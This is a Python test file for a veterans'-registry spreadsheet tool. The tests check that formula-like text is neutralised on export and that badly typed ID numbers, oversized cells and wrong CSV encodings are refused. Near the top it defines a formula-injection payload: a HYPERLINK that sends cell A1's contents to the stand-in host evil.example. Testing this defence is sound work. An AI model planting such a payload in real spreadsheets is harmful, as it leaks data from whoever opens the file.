"""vetctl's spreadsheets without servers: what goes out is data (never a formula), ID
numbers typed as numbers and oversized cells are refused row by row, a CSV in another
encoding is one line naming the encodings accepted. Registry is a fake."""

import csv
import datetime as dt
import zipfile

import openpyxl
import pytest

from tests.factories import make_veteran, unique_id_numbers
from vetctl import records, sheets
from vetctl.client import Failure

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
# Each way a spreadsheet starts a formula (or a DDE call): = + - @ tab CR.
DANGEROUS = [FORMULA, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HEADERS = ["身份证号", "姓名", "手机", "县市区代码", "退役时间", "退役类型", "意愿", "就业状态"]


class Reply:
    def __init__(self, value):
        self.value = value

    def result(self):
        return self.value


class FakeRegistry:
    """registry as vetctl calls it: ``register_veterans`` creates every payload sent but
    one with the phone 12345 (all kept in ``sent``), ``search_veterans`` pages through
    ``veterans``."""

    def __init__(self, veterans=()):
        self.veterans, self.sent = list(veterans), []

    def call_async(self, service, method, payloads):
        assert (service, method) == ("registry", "register_veterans")
        self.sent.extend(payloads)
        return Reply(
            {
                "results": [
                    {"status": "invalid", "errors": {"phone": ["not a mainland mobile number"]}}
                    if payload.get("phone") == "12345"
                    else {"status": "created"}
                    for payload in payloads
                ]
            }
        )

    def call(self, service, method, *args):
        assert (service, method) == ("registry", "search_veterans"), method
        _filters, page, size = args
        return {
            "items": self.veterans[(page - 1) * size : page * size],
            "total": len(self.veterans),
        }


def id_numbers(count):
    """Distinct valid ID numbers, all digits (none ending in X) so they can be numbers."""
    found = []
    while len(found) < count:
        found += [number for number in unique_id_numbers(count) if number.isdigit()]
    return found[:count]


def veteran_row(number, **overrides):
    v = make_veteran(id_number=number)
    row = {
        "身份证号": v["id_number"],
        "姓名": v["name"],
        "手机": "13900000000",
        "县市区代码": v["county_code"],
        "退役时间": v["discharged_on"],
        "退役类型": "自主就业",
        "意愿": "job",
        "就业状态": "未就业",
        **overrides,
    }
    return [row[header] for header in HEADERS]


def write_xlsx(path, headers, rows):
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    book.save(path)


def lengthen(path, marker, text):
    """Put ``text`` where the xlsx has ``marker``: openpyxl cuts what it writes at 32,767
    characters, programs that write xlsx otherwise may not (and openpyxl reads it all)."""
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    with zipfile.ZipFile(path, "w") as book:
        for name, data in parts.items():
            book.writestr(name, data.replace(marker.encode(), text.encode()))


def read_report(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# -- what goes out is data --------------------------------------------------------------
def test_an_xlsx_export_writes_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "out.xlsx"
    sheets.write(path, ["name", "amount"], ([text, -5] for text in DANGEROUS), "xlsx")
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [(row[0], row[1]) for row in sheet.iter_rows(min_row=2)]
    assert [name.data_type for name, _ in cells] == ["s"] * len(DANGEROUS)
    # The text exactly as it was, except that openpyxl writes a CR raw, which any XML
    # reader (openpyxl's own, Excel's) takes as a line feed: the cell is still text.
    assert [name.value for name, _ in cells] == [t.replace("\r", "\n") for t in DANGEROUS]
    assert [(amount.data_type, amount.value) for _, amount in cells] == [("n", -5)] * len(DANGEROUS)


def test_a_csv_export_puts_an_apostrophe_before_formula_like_text_only(tmp_path):
    path = tmp_path / "out.csv"
    sheets.write(
        path,
        ["name", "amount"],
        [*([text, -5] for text in DANGEROUS), ["张伟", -5.5], ["a=b", 0]],
        "csv",
    )
    with open(path, encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))[1:]
    assert [name for name, _ in written[: len(DANGEROUS)]] == ["'" + t for t in DANGEROUS]
    assert written[len(DANGEROUS) :] == [["张伟", "-5.5"], ["a=b", "0"]]
    assert {amount for _, amount in written[: len(DANGEROUS)]} == {"-5"}  # a number, as is


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_veterans_neutralises_a_name_that_is_a_formula(tmp_path, fmt):
    registry = FakeRegistry(
        [
            {
                "id": "v1",
                "id_number": "652301********0714",
                "name": FORMULA,
                "county_code": "652301",
                "skills": ["@x", "driver_b2"],
            }
        ]
    )
    path = tmp_path / f"out.{fmt}"
    assert records.export_veterans(registry, path, fmt) == 1
    if fmt == "xlsx":
        header, row = openpyxl.load_workbook(path).worksheets[0].iter_rows()
        cells = {h.value: cell for h, cell in zip(header, row, strict=True)}
        assert (cells["name"].data_type, cells["name"].value) == ("s", FORMULA)
        assert (cells["skills"].data_type, cells["skills"].value) == ("s", "@x、driver_b2")
    else:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            (row,) = csv.DictReader(handle)
        assert (row["name"], row["skills"]) == ("'" + FORMULA, "'@x、driver_b2")


def test_the_rejected_rows_report_neutralises_the_headers_it_echoes(tmp_path):
    path = tmp_path / "名册.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [[*HEADERS, FORMULA, "-cmd"], veteran_row(id_numbers(1)[0]) + ["x", "y"]]
        )
    result = records.import_veterans(FakeRegistry(), path, tmp_path / "report.csv")
    assert result["unknown_columns"] == [FORMULA, "-cmd"]
    assert read_report(result["report"])[1:] == [
        ["header", "'" + FORMULA, "column not recognised: ignored"],
        ["header", "'-cmd", "column not recognised: ignored"],
    ]


# -- ID numbers typed as numbers, oversized cells ----------------------------------------
def test_an_id_number_stored_as_a_number_is_refused_naming_row_and_column(tmp_path):
    first, rounded, exact, last = id_numbers(4)
    path = tmp_path / "名册.xlsx"
    # As Excel keeps a number typed in a General cell: a float of 15 significant digits.
    # And an int, as a program that wrote the number would leave it: refused as well.
    write_xlsx(
        path,
        HEADERS,
        [
            veteran_row(first),
            veteran_row(rounded, 身份证号=float(rounded)),
            veteran_row(exact, 身份证号=int(exact)),
            veteran_row(last),
        ],
    )
    registry = FakeRegistry()
    result = records.import_veterans(registry, path, tmp_path / "report.csv")
    assert (result["created"], result["rejected"]) == (2, 2)
    assert [p["id_number"] for p in registry.sent] == [first, last]
    assert read_report(result["report"])[1:] == [
        ["3", "id_number", sheets.NOT_TEXT],
        ["4", "id_number", sheets.NOT_TEXT],
    ]
    assert "not a number (Excel rounds it)" in sheets.NOT_TEXT


def test_a_csv_id_number_in_scientific_notation_is_refused(tmp_path):
    number = id_numbers(1)[0]
    path = tmp_path / "名册.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows(
            [HEADERS, veteran_row(number, 身份证号="6.52301E+17"), veteran_row(number)]
        )
    registry = FakeRegistry()
    result = records.import_veterans(registry, path, tmp_path / "report.csv")
    assert (result["created"], result["rejected"]) == (1, 1)
    assert [p["id_number"] for p in registry.sent] == [number]
    assert read_report(result["report"])[1:] == [["2", "id_number", sheets.NOT_TEXT]]


def test_a_founders_id_number_stored_as_a_number_is_refused_before_any_look_up(tmp_path):
    path = tmp_path / "企业.xlsx"
    write_xlsx(
        path,
        ["类型", "名称", "县市区代码", "行业", "成立日期", "阶段", "创办人身份证号"],
        [
            [
                "个体工商户",
                "老兵面馆",
                "652301",
                "餐饮",
                "2024-03-01",
                "经营期",
                float(id_numbers(1)[0]),
            ]
        ],
    )
    registry = FakeRegistry()  # any look-up of the founder fails the test (search only)
    result = records.import_enterprises(registry, path, tmp_path / "report.csv")
    assert (result["created"], result["rejected"]) == (0, 1)
    assert read_report(result["report"])[1:] == [["2", "founder_id_numbers", sheets.NOT_TEXT]]


def test_refused_rows_are_reported_in_file_order_across_batches(tmp_path):
    # Row 2 is rejected by registry once its batch is answered, row 3 (same batch) and
    # row 7 by vetctl before sending: the report still follows the file.
    numbers = id_numbers(7)
    path = tmp_path / "名册.xlsx"
    write_xlsx(
        path,
        HEADERS,
        [veteran_row(numbers[0], 手机="12345")]
        + [
            veteran_row(n, 身份证号=float(n)) if i in (1, 5) else veteran_row(n)
            for i, n in enumerate(numbers)
            if i
        ],
    )
    registry = FakeRegistry()
    result = records.import_veterans(registry, path, tmp_path / "report.csv", batch_size=2)
    assert (result["created"], result["rejected"]) == (4, 3)
    assert [p["id_number"] for p in registry.sent] == [
        n for i, n in enumerate(numbers) if i not in (1, 5)
    ]
    assert [row[:2] for row in read_report(result["report"])[1:]] == [
        ["2", "phone"],
        ["3", "id_number"],
        ["7", "id_number"],
    ]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_an_oversized_cell_is_refused_naming_its_row_and_column(tmp_path, suffix):
    # 200,000 characters: past a CSV field's default limit (131,072) too.
    first, long_one = id_numbers(2)
    rows = [veteran_row(first), veteran_row(long_one, 姓名="张" * 200_000)]
    path = tmp_path / f"名册.{suffix}"
    if suffix == "xlsx":
        write_xlsx(path, HEADERS, [rows[0], veteran_row(long_one, 姓名="LONG-NAME")])
        lengthen(path, "LONG-NAME", "张" * 200_000)
    else:
        with open(path, "w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows([HEADERS, *rows])
    registry = FakeRegistry()
    result = records.import_veterans(registry, path, tmp_path / "report.csv")
    assert (result["created"], result["rejected"]) == (1, 1)
    assert [p["id_number"] for p in registry.sent] == [first]
    (reported,) = read_report(result["report"])[1:]
    assert reported[:2] == ["3", "name"] and "200,000 characters" in reported[2]


def test_a_quote_left_open_stops_the_import_naming_the_row(tmp_path, monkeypatch):
    monkeypatch.setattr(sheets, "CSV_FIELD_LIMIT", 1000)
    path = tmp_path / "名册.csv"
    number = id_numbers(1)[0]
    path.write_text(
        ",".join(HEADERS)
        + "\n"
        + ",".join(veteran_row(number))
        + "\n"
        + number
        + ',"张伟\n'
        + "x" * 2000
        + "\n",
        encoding="utf-8",
    )
    with pytest.raises(Failure, match=r"名册.csv: row 3: not readable as CSV \(field larger"):
        records.import_veterans(FakeRegistry(), path, tmp_path / "report.csv")


# -- encodings ---------------------------------------------------------------------------
TEXT = "身份证号,姓名\n652301199206150714,张伟\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_csv_in_utf8_with_or_without_bom_or_gb18030_is_read(tmp_path, encoding):
    path = tmp_path / "名册.csv"
    path.write_bytes(TEXT.encode(encoding))
    headers, numbered, total = sheets.rows(path)
    assert (headers, list(numbered), total) == (
        ["身份证号", "姓名"],
        [(2, ["652301199206150714", "张伟"])],
        1,
    )


LATIN_1 = "id_number,name\n652301199206150714,André,\n".encode("latin-1")


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe" + TEXT.encode("utf-16-le"),  # Excel's "Unicode text"
        b"\xfe\xff" + TEXT.encode("utf-16-be"),
        TEXT.encode("utf-16-le"),  # no BOM: NUL bytes, that both would take
        LATIN_1,
    ],
    ids=["utf-16-le", "utf-16-be", "utf-16-without-bom", "latin-1"],
)
def test_a_csv_in_another_encoding_is_one_line_naming_the_encodings_accepted(tmp_path, content):
    path = tmp_path / "名册.csv"
    path.write_bytes(content)
    with pytest.raises(Failure) as refused:
        records.import_veterans(FakeRegistry(), path, tmp_path / "report.csv")
    assert str(refused.value) == (
        f"{path}: the CSV is neither UTF-8 nor GB18030 text; "
        "accepted encodings: UTF-8 (with or without BOM), GB18030"
    )


def test_the_latin_1_sample_really_is_neither_utf8_nor_gb18030():
    for encoding in ("utf-8", "gb18030"):  # é before a comma: no GB18030 pair
        with pytest.raises(UnicodeDecodeError):
            LATIN_1.decode(encoding)


@pytest.mark.parametrize(
    "cell, sent",
    [
        (4000, 4000),
        (4000.0, 4000),
        (" 4000 ", 4000),
        ("４０００", 4000),
        (4000.5, "4000.5"),
        ("4千", "4千"),
        ("²", "²"),
        (True, "True"),
    ],
)
def test_an_integer_cell_is_sent_as_a_json_integer_or_as_text_the_service_refuses(cell, sent):
    cells = sheets.Cells(["intentions.min_salary"])
    value = cells.payload([cell])["intentions"]["min_salary"]
    assert value == sent and type(value) is type(sent)


def test_an_old_sheet_with_old_labels_still_maps_to_current_codes():
    # 士官 (the label before 军士), 升学 (before 复学/考试入学 were told apart).
    fields, unknown = sheets.columns_for(
        ["衔级类别", "就业状态", "退役类型", "意向职业"], sheets.VETERAN_HEADERS
    )
    assert unknown == []
    payload = sheets.Cells(fields).payload(["士官", "升学", "逐月领取退役金", "4-07-05-04、驾驶员"])
    assert payload["rank_category"] == "nco"
    assert payload["employment_status"] == "further_education"
    assert payload["discharge_type"] == "monthly_pension"
    assert payload["intentions"]["occupations"] == ["fire_facility_operator", "driver"]


def test_the_new_card_columns_are_read_from_their_chinese_headers():
    headers = ["政治面貌", "优待证号", "健康状况", "伤残等级"]
    headers += ["报到时间", "户籍地", "安置地", "采集人"]
    fields, unknown = sheets.columns_for(headers, sheets.VETERAN_HEADERS)
    assert unknown == []
    payload = sheets.Cells(fields).payload(
        ["中共党员", "YD0001", "伤残", 6.0, dt.date(2017, 1, 3), 652301100001.0, "652301", "李"]
    )
    assert payload == {
        "political_status": "cpc_member",
        "preferential_card_number": "YD0001",
        "health": "disabled",
        "disability_grade": 6,
        "reported_on": "2017-01-03",
        "hukou_place": "652301100001",
        "placement_place": "652301",
        "collected_by": "李",
    }


def test_the_export_has_the_new_card_columns_as_the_list_reply_gives_them(tmp_path):
    registry = FakeRegistry(
        [
            {
                "id": "v1",
                "preferential_card_number": "YD********01",
                "honours": [{"kind": "third_class_merit", "year": 2012}],
                "employment_difficulty": {"recognised": True, "reasons": ["other"]},
                "trained": True,
                "flags": ["late_report"],
            }
        ]
    )
    path = tmp_path / "out.csv"
    assert records.export_veterans(registry, path, "csv") == 1
    with open(path, encoding="utf-8-sig", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["preferential_card_number"] == "YD********01"
    assert row["honours"] == "third_class_merit:2012"
    assert row["employment_difficulty"] == "recognised"
    assert (row["trained"], row["flags"]) == ("True", "late_report")
